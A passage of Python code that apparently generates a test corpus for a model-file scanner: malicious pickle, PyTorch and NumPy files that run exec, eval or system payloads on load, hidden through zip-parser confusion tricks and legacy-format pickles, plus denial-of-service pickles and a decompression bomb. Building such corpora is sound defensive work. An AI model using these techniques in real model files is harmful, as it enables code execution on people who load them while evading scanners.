        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    replace = dict(replace or {})
    recs = []
    for name, data in items:
        if name.endswith("/.data/serialization_id"):
            data = SERIAL_ID.encode()
        recs.append(ZipRec(name, replace.pop(name, data)))
    recs += [ZipRec(n, d) for n, d in list(replace.items()) + list(add)]
    _write(path, zip_bytes(recs))


def _write(path: str, data: bytes) -> str:
    with open(path, "wb") as f:
        f.write(data)
    return path


def legacy_bytes(main: bytes, magic: Optional[bytes] = None, version: Optional[bytes] = None,
                 sys_info: Optional[bytes] = None, keys: Optional[bytes] = None, proto: int = 2) -> bytes:
    """The five pickles of torch's legacy format (no storages), any of them replaced."""
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join([magic if magic is not None else pickle.dumps(MAGIC, protocol=proto),
                     version if version is not None else pickle.dumps(1001, protocol=proto),
                     sys_info if sys_info is not None else pickle.dumps(info, protocol=proto),
                     main, keys if keys is not None else pickle.dumps([], protocol=proto)])


def npy_bytes(pickled: bytes) -> bytes:
    """A version 1.0 .npy of an object array whose data is the given pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + pickled


# --------------------------------------------------------------------------------------------
# The corpus

class Ctx:
    def __init__(self, folder: str, markers: str):
        self.folder = os.path.abspath(folder)
        self.markers = os.path.abspath(markers)

    def marker(self, name: str) -> str:
        return os.path.join(self.markers, name + ".marker")

    def path(self, name: str) -> str:
        return os.path.join(self.folder, name)


def _meta(name: str, kind: str, container: str, loader: str, executes: Optional[bool], ctx: Ctx,
          note: str = "", benign: bool = False, heavy: bool = False, marker: bool = True) -> dict:
    return {"name": name, "kind": kind, "container": container, "loader": loader, "executes": executes,
            "benign": benign, "heavy": heavy, "marker": ctx.marker(name) if marker else None, "note": note}


def _gadget_entries(ctx: Ctx) -> List[Entry]:
    out = []
    for kind, (build, protos, note, executes) in GADGETS.items():
        for p in protos:
            tag = f"{kind}_p{p}"
            # bare: pickle.load of the file
            name = f"{tag}.pkl"
            out.append((_write(ctx.path(name), build(ctx.marker(name), p)),
                        _meta(name, kind, "bare", PICKLE_LOAD, executes, ctx, note)))
            # zip: the archive's data.pkl
            name = f"{tag}.zip.pt"
            ex = executes
            out.append((_write(ctx.path(name), torch_zip_bytes(build(ctx.marker(name), p))),
                        _meta(name, kind, "zip", TORCH_LOAD, ex, ctx, note)))
            if kind == "dotted_global_opcode" and p == 2:
                out[-2][1]["executes"] = out[-1][1]["executes"] = False
                out[-2][1]["note"] = out[-1][1]["note"] = "GLOBAL dotted name under PROTO 2: AttributeError"
        if kind in LEGACY_GADGETS:
            p = protos[0]
            name = f"{kind}_p{p}.legacy.pt"
            ex = executes and kind != "frame_straddle"  # measured: torch's legacy read keeps the frame
            out.append((_write(ctx.path(name), legacy_bytes(build(ctx.marker(name), p))),
                        _meta(name, kind, "legacy", TORCH_LOAD, ex, ctx, note + "; the legacy main pickle")))
        if kind in NPY_GADGETS:
            p = protos[-1]
            name = f"{kind}_p{p}.npy"
            out.append((_write(ctx.path(name), npy_bytes(build(ctx.marker(name), p))),
                        _meta(name, kind, "npy", NP_LOAD, executes, ctx, note + "; as an object array's pickle")))
    return out


def _zip_entries(ctx: Ctx) -> List[Entry]:
    out = []

    def add(name, data, kind, executes, note, container="zip", loader=TORCH_LOAD):
        out.append((_write(ctx.path(name), data), _meta(name, kind, container, loader, executes, ctx, note)))

    def payload(name):
        return _g_exec(ctx.marker(name), 2)

    benign = pickle.dumps({"w": 1}, protocol=2)

    # a data.pkl named in another case, alone and beside a benign data.pkl, in each order
    n = "zip_case_only.pt"
    recs = torch_records(benign)
    recs[0] = ZipRec("archive/DATA.pkl", payload(n))
    add(n, zip_bytes(recs), "zip_case_name", True, "only archive/DATA.pkl: miniz matches names ignoring case")
    for order in ("upper_first", "lower_first"):
        n = f"zip_case_{order}.pt"
        up = ZipRec("archive/DATA.pkl", payload(n))
        low = ZipRec("archive/data.pkl", benign)
        recs = torch_records(benign)[1:]
        recs = ([up, low] if order == "upper_first" else [low, up]) + recs
        add(n, zip_bytes(recs), "zip_case_name", order == "lower_first",
            f"archive/DATA.pkl (payload) and data.pkl (benign), {order}: miniz takes the last match")
    # two records with the same name
    for order in ("payload_first", "payload_last"):
        n = f"zip_dup_name_{order}.pt"
        bad = ZipRec("archive/data.pkl", payload(n))
        good = ZipRec("archive/data.pkl", benign)
        recs = torch_records(benign)[1:]
        recs = ([bad, good] if order == "payload_first" else [good, bad]) + recs
        add(n, zip_bytes(recs), "zip_duplicate_name", order == "payload_last",
            f"two archive/data.pkl records, {order}: miniz takes the last")
    # local header names another file than the central directory
    n = "zip_local_name_differs.pt"
    recs = torch_records(payload(n))
    recs[0].local_name = "archive/data.pkX"
    add(n, zip_bytes(recs), "zip_local_header_mismatch", True, "local header 'data.pkX', directory 'data.pkl'")
    # concatenated archives: benign + payload, payload + benign (each with its own directory)
    for order in ("payload_last", "payload_first"):
        n = f"zip_concat_{order}.pt"
        a = zip_bytes(torch_records(benign))
        b = zip_bytes(torch_records(payload(n)))
        add(n, (a + b) if order == "payload_last" else (b + a), "zip_concatenated", False,
            f"two whole archives back to back, {order}: miniz refuses (offsets not adjusted)")
    # two directories in one archive: records of both, the last end record points at the payload's
    n = "zip_two_directories.pt"
    bad_recs, good_recs = torch_records(payload(n)), torch_records(benign)
    body = bytearray()
    for r in good_recs + bad_recs:
        r.offset = len(body)
        body += _local(r, len(body), 64)
    for group in (good_recs, bad_recs):
        cd = b"".join(_central(r, 0) for r in group)
        start = len(body)
        body += cd + _eocd(len(group), len(cd), start)
    add(n, bytes(body), "zip_two_directories", True, "benign directory+end record, then the payload's (read)")
    # offsets counted from a later start: the payload's records and directory first, then a whole
    # benign archive laid out the same way whose offsets count from its own start. A reader that
    # adds the bytes before it (zipfile) reads the benign copy; one that takes offsets as they are
    # (miniz) reads the payload's directory and records.
    n = "zip_offset_base.pt"
    pl = payload(n)
    ben = pickle.dumps({"w": 1, "p": ""}, protocol=2)
    ben = pickle.dumps({"w": 1, "p": "x" * (len(pl) - len(ben))}, protocol=2)
    assert len(ben) == len(pl)
    bad = zip_bytes(torch_records(pl))
    add(n, bad[:bad.rindex(b"PK\x05\x06")] + zip_bytes(torch_records(ben)), "zip_offset_base", True,
        "payload records + directory, then a benign archive whose offsets count from its own start")
    # bytes before the first listed record: an unlisted local record (payload) first, then the
    # listed ones (benign), and the other way round
    n = "zip_hidden_first_record.pt"
    hidden = ZipRec("archive/data.pkl", payload(n), listed=False)
    add(n, zip_bytes([hidden] + torch_records(benign)), "zip_unlisted_record", False,
        "an unlisted local data.pkl (payload) before the listed benign archive")
    n = "zip_hidden_benign_first.pt"
    hidden = ZipRec("archive/data.pkl", benign, listed=False)
    add(n, zip_bytes([hidden] + torch_records(payload(n))), "zip_unlisted_record", True,
        "an unlisted benign local data.pkl first; the listed data.pkl is the payload")
    # junk bytes before the archive (torch wants PK\3\4 at byte 0: not a zip to torch.load)
    n = "zip_junk_prefix.pt"
    add(n, zip_bytes(torch_records(payload(n)), prefix=b"\x00" * 64), "zip_junk_prefix", False,
        "64 junk bytes before the archive (torch.load then tries the legacy path)")
    # the archive directory named otherwise
    n = "zip_other_archive_name.pt"
    add(n, zip_bytes(torch_records(payload(n), archive="something_else")), "zip_archive_name", True,
        "records under something_else/, not archive/")
    # TorchScript-looking: constants.pkl present, torch.load hands the file to torch.jit.load
    n = "zip_torchscript_lookalike.pt"
    add(n, zip_bytes(torch_records(payload(n), extra=[("constants.pkl", pickle.dumps((), protocol=2))])),
        "zip_torchscript_lookalike", False, "constants.pkl present: torch.jit.load, whose unpickler calls no Python")
    # CRC-32 off (as torch.serialization.set_crc32_options(False) writes): every CRC field 0
    n = "zip_crc_off.pt"
    recs = torch_records(payload(n))
    for r in recs:
        r.crc = 0
    add(n, zip_bytes(recs), "zip_crc_off", True, "CRC-32 fields 0, as set_crc32_options(False) saves")
    n = "zip_crc_wrong.pt"
    recs = torch_records(payload(n))
    recs[0].crc ^= 0xFFFF
    add(n, zip_bytes(recs), "zip_crc_wrong", True, "data.pkl's CRC-32 wrong: torch does not check it")
    # deflated data.pkl
    n = "zip_deflated.pt"
    recs = torch_records(payload(n))
    recs[0] = ZipRec("archive/data.pkl", payload(n), method=8)
    add(n, zip_bytes(recs), "zip_deflated", True, "data.pkl deflated")
    # npz: object arrays in a zip of .npy records, stored and deflated
    for method, tag in ((0, "stored"), (8, "deflated")):
        n = f"npz_object_{tag}.npz"
        npy = npy_bytes(_g_exec(ctx.marker(n), 2))
        add(n, zip_bytes([ZipRec("a.npy", npy_bytes(pickle.dumps(["ok"], protocol=3)), method),
                          ZipRec("b.npy", npy, method)], align=0),
            "npz_object_array", True, f"second array's pickle is the payload ({tag})", "npz", NP_LOAD)
    return out


def _legacy_entries(ctx: Ctx) -> List[Entry]:
    out = []
    benign_main = pickle.dumps({"w": 1}, protocol=2)

    def add(name, data, kind, note, executes=True, container="legacy", loader=TORCH_LOAD):
        out.append((_write(ctx.path(name), data), _meta(name, kind, container, loader, executes, ctx, note)))

    def run_then(name: str, value: bytes, p: int = 2) -> bytes:
        # a pickle that runs the payload, drops its result, then pushes the expected value
        m = ctx.marker(name)
        return pk(call(glob("builtins", "exec", p), [s(code(m), p)], p) + b"0" + value, p)

    magic2 = b"\x8a\x0a" + MAGIC.to_bytes(10, "little")
    n = "legacy_payload_in_magic.pt"
    add(n, legacy_bytes(benign_main, magic=run_then(n, magic2)), "legacy_magic_pickle",
        "the magic-number pickle runs the payload, then yields the magic")
    n = "legacy_payload_in_version.pt"
    add(n, legacy_bytes(benign_main, version=run_then(n, b"M\xe9\x03")), "legacy_version_pickle",
        "the protocol-version pickle")
    n = "legacy_payload_in_sys_info.pt"
    add(n, legacy_bytes(benign_main, sys_info=run_then(n, b"}")), "legacy_sys_info_pickle", "the sys_info pickle")
    n = "legacy_payload_in_storage_keys.pt"
    add(n, legacy_bytes(benign_main, keys=run_then(n, b"]")), "legacy_storage_keys_pickle",
        "the storage-keys pickle, read after the main one")
    n = "legacy_magic_by_eval.pt"
    ev = pk(call(glob("builtins", "eval", 2), [s(hex(MAGIC), 2)], 2), 2)
    add(n, legacy_bytes(_g_system(ctx.marker(n), 4), magic=ev), "legacy_magic_computed",
        "the magic computed by eval('0x1950...'), payload in the main pickle")
    for p in (0, 1):
        n = f"legacy_proto{p}.pt"
        add(n, legacy_bytes(_g_exec(ctx.marker(n), p), proto=p), "legacy_protocol_spelling",
            f"all five pickles in protocol {p}, payload in the main one")
    n = "legacy_junk_before_magic.pt"
    junk = b"\x80\x02N0(N1]0}0" + magic2 + b"."
    add(n, legacy_bytes(_g_exec(ctx.marker(n), 2), magic=junk), "legacy_junk_before_magic",
        "no-op opcodes before the magic value; payload in the main pickle")
    n = "legacy_framed_magic.pt"
    add(n, legacy_bytes(_g_system(ctx.marker(n), 4), magic=pickle.dumps(MAGIC, protocol=5)),
        "legacy_protocol_spelling", "magic in protocol 5 (framed), payload main pickle")
    # the legacy tar format: storages, tensors and pickle members
    for where in ("pickle", "storages"):
        n = f"legacy_tar_payload_in_{where}.tar.pt"
        members = {"storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
                   "tensors": pickle.dumps(0, protocol=2), "pickle": benign_main}
        m = ctx.marker(n)
        if where == "pickle":
            members["pickle"] = _g_exec(m, 2)
        else:
            members["storages"] = run_then(n, b"K\x00") + pickle.dumps([], protocol=2)
        add(n, tar_bytes(members), "legacy_tar", f"tar-format legacy file, payload in the '{where}' member",
            container="tar")
    # a bare pickle given to torch.load: the "magic" pickle is the payload
    n = "bare_under_torch_load.pt"
    add(n, _g_exec(ctx.marker(n), 2), "legacy_magic_pickle", "a bare payload pickle named .pt", container="bare")
    return out


def tar_bytes(members: Dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            data = members.get(name, pickle.dumps({}, protocol=2) if name == "sys_info" else b"")
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _export_entries(ctx: Ctx) -> List[Entry]:
    import torch

    out = []

    class Tiny(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)
            self.register_buffer("scale", torch.ones(2))

        def forward(self, x):
            return self.lin(x) * self.scale

    torch.manual_seed(0)
    base = ctx.path("_export_base.pt2")
    ep = torch.export.export(Tiny(), (torch.ones(1, 2),))
    torch.export.save(ep, base)
    import zipfile
    with zipfile.ZipFile(base) as z:
        items = {i.filename: z.read(i.filename) for i in z.infolist()}
    os.remove(base)
    root = next(iter(items)).split("/")[0]

    def emit(name, changes, kind, note, executes=True, benign=False):
        its = dict(items)
        its[f"{root}/.data/serialization_id"] = SERIAL_ID.encode()
        for k, v in changes.items():
            its[f"{root}/{k}"] = v
        _write(ctx.path(name), zip_bytes([ZipRec(k, v) for k, v in its.items()]))
        out.append((ctx.path(name), _meta(name, kind, "pt2", EXPORT_LOAD, executes, ctx, note, benign=benign,
                                           marker=not benign)))

    emit("export_benign.pt2", {}, "benign_pt2", "torch.export.save of a Linear", executes=False, benign=True)
    n = "export_sample_inputs.pt2"
    emit(n, {"data/sample_inputs/model.pt": torch_zip_bytes(_g_exec(ctx.marker(n), 2))}, "pt2_sample_inputs",
         "sample inputs: torch.load weights_only=True fails, then retried with weights_only=False")
    wcfg = json.loads(items[f"{root}/data/weights/model_weights_config.json"])
    first = next(iter(wcfg["config"]))
    n = "export_weight_pickled.pt2"
    cfg = json.loads(json.dumps(wcfg))
    cfg["config"][first]["use_pickle"] = True
    emit(n, {"data/weights/model_weights_config.json": json.dumps(cfg).encode(),
             "data/weights/" + cfg["config"][first]["path_name"]: torch_zip_bytes(_g_exec(ctx.marker(n), 2))},
         "pt2_weight_pickle", "a weight marked use_pickle: torch.load(weights_only=False)")
    n = "export_constant_opaque.pt2"
    ccfg = {"config": {"c0": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    emit(n, {"data/constants/model_constants_config.json": json.dumps(ccfg).encode(),
             "data/constants/opaque_obj_0": _g_system(ctx.marker(n), 4)},
         "pt2_constant_opaque", "an opaque_obj_ constant: pickle.loads")
    n = "export_constant_tensor_pickled.pt2"
    ccfg = {"config": {"c0": {"path_name": "tensor_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    emit(n, {"data/constants/model_constants_config.json": json.dumps(ccfg).encode(),
             "data/constants/tensor_0": torch_zip_bytes(_g_exec(ctx.marker(n), 2))},
         "pt2_constant_tensor", "a tensor_ constant with use_pickle: torch.load(weights_only=False)")
    n = "export_custom_obj.pt2"
    ccfg = {"config": {"c0": {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    emit(n, {"data/constants/model_constants_config.json": json.dumps(ccfg).encode(),
             "data/constants/custom_obj_0": _g_exec(ctx.marker(n), 2)},
         "pt2_custom_obj", "a custom_obj_ constant: torch's C++ unpickler, which calls no Python", executes=False)
    # AOTInductor-style package: a shared library inside (native code: dangerous without running it)
    n = "export_aoti_so.pt2"
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x03\x00\x3e\x00" + b"\x00" * 44
    its = {k: v for k, v in items.items()}
    its[f"{root}/data/aotinductor/model/model.so"] = elf
    its[f"{root}/data/aotinductor/model/model.wrapper.so"] = elf
    its[f"{root}/.data/serialization_id"] = SERIAL_ID.encode()
    _write(ctx.path(n), zip_bytes([ZipRec(k, v) for k, v in its.items()]))
    out.append((ctx.path(n), _meta(n, "pt2_aoti_shared_library", "pt2", EXPORT_LOAD, None, ctx,
                                   "native code: .so records of an AOTInductor package", marker=False)))
    return out


class _Payload:
    """Pickles as exec(code): the object torch.save / np.save / dcp.save write for a payload item."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (exec, (code(self.marker),))


def _dcp_entries(ctx: Ctx) -> List[Entry]:
    import torch
    import torch.distributed.checkpoint as dcp

    out = []
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        n = "dcp_benign"
        dcp.save({"w": torch.arange(4.0), "step": 3, "note": "hello"}, checkpoint_id=ctx.path(n))
        out.append((ctx.path(n), _meta(n, "benign_dcp", "dcp", DCP_LOAD, False, ctx, "a tensor, an int and a str",
                                       benign=True, marker=False)))
        n = "dcp_bytes_item"
        dcp.save({"w": torch.arange(4.0), "extra": _Payload(ctx.marker(n))}, checkpoint_id=ctx.path(n))
        out.append((ctx.path(n), _meta(n, "dcp_bytes_item", "dcp", DCP_LOAD, True, ctx,
                                       "a non-tensor item: dcp.load torch.load(weights_only=False)s its bytes")))
        n = "dcp_metadata"
        dcp.save({"w": torch.arange(4.0)}, checkpoint_id=ctx.path(n))
        meta_path = os.path.join(ctx.path(n), ".metadata")
        with open(meta_path, "rb") as f:
            original = f.read()
        m = ctx.marker(n)
        prefix = b"\x80\x04" + call(glob("builtins", "exec", 4), [s(code(m), 4)], 4) + b"0"
        _write(meta_path, prefix + original)
        out.append((ctx.path(n), _meta(n, "dcp_metadata", "dcp", DCP_LOAD, True, ctx,
                                       ".metadata runs exec, drops it, then builds the real Metadata")))
    return out


_LOOKALIKE_SRC = textwrap.dedent('''
    """Look-alike classes for the hostile corpus (written into the corpus folder)."""
    import enum
    import torch


    class Color(enum.Enum):
        RED = 1
        GREEN = "green"


    class Strategy(str, enum.Enum):
        STEPS = "steps"


    class Bottleneck(torch.nn.Module):
        """Like ultralytics' block: plain data attributes named add / append / extend."""

        def __init__(self, shortcut=True):
            super().__init__()
            self.cv1 = torch.nn.Conv2d(2, 2, 1)
            self.add = shortcut
            self.append = False
            self.extend = 0


    class Config:
        def __init__(self):
            self.add = 1
            self.append = True
            self.extend = [1, 2]
''')
LOOKALIKE_MODULE = "hostile_lookalikes"


def _lookalike_module(ctx: Ctx):
    path = _write(ctx.path(LOOKALIKE_MODULE + ".py"), _LOOKALIKE_SRC.encode())
    spec = importlib.util.spec_from_file_location(LOOKALIKE_MODULE, path)
    mod = importlib.util.module_from_spec(spec)
    sys.modules[LOOKALIKE_MODULE] = mod
    spec.loader.exec_module(mod)
    return mod


def _benign_entries(ctx: Ctx) -> List[Entry]:
    import numpy as np
    import torch
    import torchvision

    out = []

    def save(name, obj, kind, note):
        path = ctx.path(name)
        torch.save(obj, path)
        rewrite_torch_zip(path)
        out.append((path, _meta(name, kind, "zip", TORCH_LOAD, False, ctx, note, benign=True, marker=False)))

    mod = _lookalike_module(ctx)
    try:
        torch.manual_seed(0)
        save("benign_attr_add_module.pt", {"model": mod.Bottleneck(), "epoch": 1}, "benign_attr_add",
             "a pickled nn.Module with bool/int attributes add/append/extend set by BUILD (ultralytics-like)")
        save("benign_attr_add_object.pt", {"cfg": mod.Config()}, "benign_attr_add",
             "a plain object with attributes add/append/extend set by BUILD")
        save("benign_enum.pt", {"color": mod.Color.RED, "green": mod.Color.GREEN, "strategy": mod.Strategy.STEPS,
                                "w": torch.ones(2)}, "benign_enum", "Enum members rebuilt by REDUCE of their class")
    finally:
        sys.modules.pop(LOOKALIKE_MODULE, None)
    torch.manual_seed(0)
    save("benign_resnet18_whole.pt", torchvision.models.resnet18(num_classes=10), "benign_whole_model",
         "torchvision resnet18 pickled whole")
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    opt = torch.optim.Adam(net.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
    net(torch.ones(2, 4)).sum().backward()
    opt.step()
    sched.step()
    save("benign_optimizer_checkpoint.pt", {"model_state_dict": net.state_dict(), "optimizer_state_dict": opt.state_dict(),
                                            "scheduler": sched.state_dict(), "epoch": 3, "loss": 0.5},
         "benign_training_checkpoint", "state_dict + Adam + StepLR state + epoch")
    save("benign_numpy_in_checkpoint.pt", {"arr": np.arange(6, dtype=np.int64).reshape(2, 3),
                                           "f32": np.float32(1.5), "u32": np.arange(3, dtype=np.uint32),
                                           "w": torch.ones(2)}, "benign_numpy", "numpy arrays and scalars")
    save("benign_state_dict.pt", net.state_dict(), "benign_state_dict", "a plain state_dict")
    # the same in the legacy format, and as a bare pickle / npy
    path = ctx.path("benign_state_dict.legacy.pt")
    torch.save(net.state_dict(), path, _use_new_zipfile_serialization=False)
    out.append((path, _meta("benign_state_dict.legacy.pt", "benign_state_dict", "legacy", TORCH_LOAD, False, ctx,
                            "torch.save(..., _use_new_zipfile_serialization=False)", benign=True, marker=False)))
    n = "benign_list.pkl"
    _write(ctx.path(n), pickle.dumps(["a", "b", {"c": 1}], protocol=4))
    out.append((ctx.path(n), _meta(n, "benign_bare", "bare", PICKLE_LOAD, False, ctx, "a list", benign=True, marker=False)))
    n = "benign_ints.npy"
    buf = io.BytesIO()
    np.save(buf, np.arange(4))
    _write(ctx.path(n), buf.getvalue())
    out.append((ctx.path(n), _meta(n, "benign_npy", "npy", NP_LOAD, False, ctx, "an int64 array", benign=True,
                                   marker=False)))
    return out


def _numpy_entries(ctx: Ctx) -> List[Entry]:
    import numpy as np

    out = []
    n = "npy_saved_object_array.npy"
    buf = io.BytesIO()
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "fine", _Payload(ctx.marker(n))
    np.save(buf, arr, allow_pickle=True)
    _write(ctx.path(n), buf.getvalue())
    out.append((ctx.path(n), _meta(n, "npy_object_array", "npy", NP_LOAD, True, ctx, "np.save of an object array")))
    n = "npz_savez_object.npz"
    arr = np.empty(1, dtype=object)
    arr[0] = _Payload(ctx.marker(n))
    buf = io.BytesIO()
    np.savez_compressed(buf, ok=np.arange(3), obj=arr)
    _write(ctx.path(n), buf.getvalue())
    out.append((ctx.path(n), _meta(n, "npz_object_array", "npz", NP_LOAD, True, ctx, "np.savez_compressed, object array")))
    return out


def _dos_entries(ctx: Ctx) -> List[Entry]:
    out = []

    def add(name, data, kind, note, executes=True, container="bare", loader=PICKLE_LOAD):
        out.append((_write(ctx.path(name), data), _meta(name, kind, container, loader, executes, ctx, note, heavy=True)))

    def head(name: str) -> bytes:
        return call(glob("builtins", "exec", 4), [s(code(ctx.marker(name)), 4)], 4) + b"0"

    n = "dos_marks_1mb.pkl"
    body = head(n) + b"(" * 200_000 + b"N" * 600_000 + b"1" * 200_000 + b"N"
    add(n, pk(body, 4), "dos_many_marks", "payload, 200,000 MARKs, 600,000 items, 200,000 POP_MARKs (1 MB)")
    n = "dos_nested_tuples.zip.pt"
    body = head(n) + b"(N" * 250_000 + b"t" * 250_000
    add(n, torch_zip_bytes(pk(body, 4)), "dos_deep_nesting", "payload, 250,000 nested tuples (750 KB) as data.pkl",
        container="zip", loader=TORCH_LOAD)
    n = "dos_memo_copies.pkl"
    parts = [head(n), b"}\x94("]                                  # memo 0: a dict
    parts += [num(i, 4) + num(i, 4) for i in range(100)]
    parts += [b"u0", glob("builtins", "dict", 4), b"\x940", b"]\x94("]  # memo 1: builtins.dict; a list
    parts += [b"h\x01h\x00\x85R\x94" * 34_000, b"e"]              # dict(d), memoised, 34,000 times
    add(n, pk(b"".join(parts), 4), "dos_memo_amplified", "a 100-item dict copied by dict(x) 34,000 times (240 KB)")
    n = "dos_memo_laughs.pkl"
    parts = [head(n), b"N\x94"]
    for i in range(1, 64):
        parts.append(b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"\x86\x94")
    add(n, pk(b"".join(parts), 4), "dos_memo_amplified", "63 levels of (x, x) pairs: 2**63 leaves if expanded")
    n = "dos_huge_length.pkl"
    add(n, pk(head(n) + b"\x8d" + struct.pack("<Q", 2 ** 62) + b"x" * 16, 4), "dos_huge_length",
        "payload, then BINUNICODE8 declaring 2**62 bytes")
    n = "dos_huge_length.zip.pt"
    add(n, torch_zip_bytes(pk(head(n) + b"\x8e" + struct.pack("<Q", 2 ** 62) + b"x" * 16, 4)), "dos_huge_length",
        "payload, then BINBYTES8 declaring 2**62 bytes, as data.pkl", container="zip", loader=TORCH_LOAD)
    n = "dos_deflate_bomb.pt"
    pl = pk(head(n) + b"N", 4)
    add(n, _bomb(pl), "zip_deflate_bomb", "data.pkl deflates 1.5 MB into 1.5 GB; its pickle starts with a payload",
        container="zip", loader=TORCH_LOAD)
    return out


def _bomb(pickled: bytes, chunks: int = 1465) -> bytes:
    """A torch archive whose data.pkl is ``pickled`` then zeros, ~1.5 GB inflated from ~1.5 MB.

    After a full flush the compressor's state is reset, so every 1 MiB chunk of zeros compresses to
    the same block: it is made once and repeated (the CRC-32 still covers every inflated byte).
    """
    zeros = b"\x00" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(pickled) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush(zlib.Z_FINISH)
    crc = zlib.crc32(pickled)
    for _ in range(chunks):
        crc = zlib.crc32(zeros, crc)
    rec = ZipRec("archive/data.pkl", b"")
    rec.method, rec.payload, rec.crc = 8, head + block * chunks + tail, crc
    rec.data = _Sized(len(pickled) + chunks * len(zeros))
    return zip_bytes([rec] + torch_records(b"")[1:])


class _Sized(bytes):
    """Stands for data of a given length that is never held whole (the bomb's inflated size)."""

    def __new__(cls, n: int):
        obj = super().__new__(cls)
        obj.n = n
        return obj

    def __len__(self) -> int:
        return self.n


SECTIONS = {
    "gadgets": _gadget_entries, "zip": _zip_entries, "legacy": _legacy_entries, "export": _export_entries,
    "dcp": _dcp_entries, "numpy": _numpy_entries, "benign": _benign_entries, "dos": _dos_entries,
}


# Names of the sections that are slow to build (torch.export, torchvision, DCP, the bomb), so that
# corpus_names() can list every file without building them; test_hostile checks the two agree.
STATIC_NAMES = {
    "export": ("export_benign.pt2", "export_sample_inputs.pt2", "export_weight_pickled.pt2",
               "export_constant_opaque.pt2", "export_constant_tensor_pickled.pt2", "export_custom_obj.pt2",
               "export_aoti_so.pt2"),
    "dcp": ("dcp_benign", "dcp_bytes_item", "dcp_metadata"),
    "benign": ("benign_attr_add_module.pt", "benign_attr_add_object.pt", "benign_enum.pt", "benign_resnet18_whole.pt",
               "benign_optimizer_checkpoint.pt", "benign_numpy_in_checkpoint.pt", "benign_state_dict.pt",
               "benign_state_dict.legacy.pt", "benign_list.pkl", "benign_ints.npy"),
    "dos": ("dos_marks_1mb.pkl", "dos_nested_tuples.zip.pt", "dos_memo_copies.pkl", "dos_memo_laughs.pkl",
            "dos_huge_length.pkl", "dos_huge_length.zip.pt", "dos_deflate_bomb.pt"),
}


def corpus_names() -> List[str]:
    """Every file name build_corpus writes, in its order (the quick sections are built in a temporary folder)."""
    import tempfile
    names: List[str] = []
    with tempfile.TemporaryDirectory() as tmp:
        ctx = Ctx(os.path.join(tmp, "c"), os.path.join(tmp, "m"))
        os.makedirs(ctx.folder)
        for sec, fn in SECTIONS.items():
            names += list(STATIC_NAMES[sec]) if sec in STATIC_NAMES else [m["name"] for _, m in fn(ctx)]
    return names


def build_corpus(folder: str, markers: Optional[str] = None, sections: Sequence[str] = tuple(SECTIONS)) -> List[Entry]:
    """Write the corpus into ``folder`` (markers baked in under ``markers``, default ``folder/../markers``)."""
    os.makedirs(folder, exist_ok=True)
    markers = markers or os.path.join(os.path.dirname(os.path.abspath(folder)), os.path.basename(folder) + "_markers")
    os.makedirs(markers, exist_ok=True)
    ctx = Ctx(folder, markers)
    entries: List[Entry] = []
    for sec in sections:
        entries += SECTIONS[sec](ctx)
    names = [m["name"] for _, m in entries]
    assert len(names) == len(set(names)), "duplicate corpus names"
    for _, m in entries:
        m["corpus"] = ctx.folder
    return entries


# --------------------------------------------------------------------------------------------
# Running the real loaders (in a throwaway process: never in the process that builds or scans)

def run_loader(loader: str, path: str):
    """Load ``path`` the way ``loader`` names; returns what it returned."""
    import warnings
    warnings.simplefilter("ignore")
    if loader == PICKLE_LOAD:
        with open(path, "rb") as f:
            return pickle.load(f)
    if loader == TORCH_LOAD:
        import torch
        return torch.load(path, weights_only=False)
    if loader == JIT_LOAD:
        import torch
        return torch.jit.load(path)
    if loader == NP_LOAD:
        import numpy as np
        out = np.load(path, allow_pickle=True)
        if hasattr(out, "files"):
            return {k: out[k] for k in out.files}
        return out
    if loader == EXPORT_LOAD:
        import torch
        return torch.export.load(path)
    if loader == DCP_LOAD:
        import torch.distributed.checkpoint as dcp
        from torch.distributed.checkpoint.default_planner import _EmptyStateDictLoadPlanner
        sd: dict = {}
        dcp.load(sd, checkpoint_id=path, planner=_EmptyStateDictLoadPlanner())
        return sd
    raise ValueError(f"unknown loader {loader!r}")


def _wait_marker(marker: Optional[str], grace: float) -> bool:
    if not marker:
        return False
    end = time.monotonic() + grace
    while True:
        if os.path.exists(marker):
            return True
        if time.monotonic() >= end:
            return False
        time.sleep(0.02)


def _measure_main(spec_path: str, out_path: str) -> None:
    """In a throwaway process: load each file of the spec in turn; write what happened as JSON."""
    with open(spec_path) as f:
        spec = json.load(f)
    results = {}
    for item in spec["items"]:
        if item["corpus"] not in sys.path:
            sys.path.insert(0, item["corpus"])
        t = time.monotonic()
        err = None
        try:
            run_loader(item["loader"], item["path"])
        except BaseException as e:  # noqa: BLE001 - a payload may raise anything, SystemExit included
            err = f"{type(e).__name__}: {str(e)[:200]}"
        results[item["name"]] = {"error": err, "seconds": round(time.monotonic() - t, 3)}
